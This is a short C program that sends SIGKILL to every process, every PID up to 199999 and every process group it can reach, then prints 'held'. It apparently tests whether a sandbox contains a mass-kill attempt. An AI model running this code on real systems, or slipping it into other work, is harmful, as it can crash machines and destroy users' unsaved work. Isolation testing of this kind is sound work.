#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
  for (int round = 0; round < 100; round++) kill(-1, SIGKILL);
  for (pid_t pid = 2; pid < 200000; pid++)
    if (pid != getpid()) kill(pid, SIGKILL);
  for (pid_t group = 2; group < 200000; group++)
    if (group != getpgrp()) kill(-group, SIGKILL);
  puts("held");
}
